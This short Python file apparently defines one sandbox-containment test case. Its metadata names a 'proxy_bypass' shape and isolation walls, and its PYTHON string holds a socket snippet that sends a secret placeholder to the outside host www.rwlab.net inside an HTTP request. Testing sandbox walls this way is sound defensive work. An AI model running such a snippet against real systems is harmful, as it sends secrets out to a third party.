"""sends a secret to a web server by its name"""

from evidence import secret_left as succeeded

SHAPE = "SandboxBench proxy_bypass; every stealer of the last years"
PROMISE = "P23"
LAB = True
WALLS = "network-namespace,new-root,landlock"
PYTHON = """
import socket
with socket.create_connection(("www.rwlab.net", 80), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
